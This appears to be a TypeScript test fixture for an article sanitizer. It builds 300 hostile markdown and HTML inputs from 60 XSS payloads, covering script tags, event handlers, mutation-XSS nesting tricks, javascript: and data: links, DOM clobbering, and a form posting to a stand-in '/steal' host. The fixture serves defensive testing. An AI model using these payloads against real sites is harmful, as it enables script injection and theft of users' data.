/**
 * What somebody who may write an article could put into it to have it run, load or lead somewhere. Anything that runs raises
 * `window.__ran`; anything that loads asks for an address at `elsewhere`. 60 ways, each in 5 wrappings: 300 articles.
 */
export const elsewhere = 'https://elsewhere.test'

const run = 'window.__ran=1'
const data = (type: string, body: string) => `data:${type};base64,${Buffer.from(body).toString('base64')}`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${elsewhere}/svg"/></svg>`

const ways: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<img srcset="${elsewhere}/set.png 1x" onload=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><use href="${elsewhere}/use.svg#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mi><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></mi></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<p id="<!--"></p><img src=x onerror="${run}"><!-- -->`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<select><style></select><img src=x onerror="${run}"></style></select>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="${elsewhere}/frame"></iframe>`,
  `<object data="${elsewhere}/o.swf"></object>`,
  `<embed src="${data('text/html', `<script>${run}</script>`)}">`,
  `<base href="${elsewhere}/"><img src="relative.png">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  `<link rel="prefetch" href="${elsewhere}/prefetch">`,
  `<style>@import url("${elsewhere}/b.css"); body { background: url(${elsewhere}/bg.png) }</style>`,
  `<p style="background:url(${elsewhere}/inline.png);position:fixed;inset:0">x</p>`,
  `<form action="${elsewhere}/steal"><input name=a autofocus onfocus="${run}"><button>ok</button></form>`,
  `<input type=image src="${elsewhere}/in.png" onerror="${run}">`,
  `<video poster="${elsewhere}/poster.png"><source src="${elsewhere}/v.mp4" onerror="${run}"></video>`,
  `<audio src="${elsewhere}/a.mp3" autoplay onerror="${run}"></audio>`,
  `<details open ontoggle="${run}">x</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<body onload="${run}" background="${elsewhere}/body.png">`,
  `<a href="javascript:${run}" id=l>x</a><a href="${elsewhere}/ping" ping="${elsewhere}/ping">y</a>`,
  `<img name=body><img name=createElement><form name=cookie></form><a id=defaultView></a>`,
  `<table background="${elsewhere}/t.png"><td background="${elsewhere}/td.png">x</table>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt&colon;${run})`,
  `[x](java&#10;script:${run})`,
  `[x](&#x6a;avascript:${run})`,
  `[x](vbscript:${run})`,
  `[x](${data('text/html', `<script>${run}</script>`)})`,
  `[x](${elsewhere}/link "a\\" onmouseover=\\"${run}")`,
  `<javascript:${run}> <${elsewhere}/auto>`,
  `![x](${elsewhere}/picture.png)`,
  `![x" onerror="${run}](${elsewhere}/quoted.png "t\\" onload=\\"${run}")`,
  `![x](${data('image/svg+xml', svg)})`,
  `![x](${data('image/png', svg)})`,
  `![x](data:image/png;base64,AAAA"onerror="${run})`,
  `[x]: javascript:${run}\n\n[x] ![x]`,
  `\`\`\`"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\``,
]

const wrappings: readonly ((way: string) => string)[] = [
  (way) => way,
  (way) => `1. first\n2. ${way.replaceAll('\n', '\n   ')}`,
  (way) => `| a | b |\n| :- | -: |\n| ${way.replaceAll('|', '\\|').replaceAll('\n', ' ')} | c |`,
  (way) => `> **${way.replaceAll('\n', '\n> ')}**`,
  (way) => `# ${way}\n\n<div>\n\n${way}\n\n</div>\n\n*${way}*`,
]

export const hostileArticles: readonly string[] = wrappings.flatMap((wrap) => ways.map(wrap))
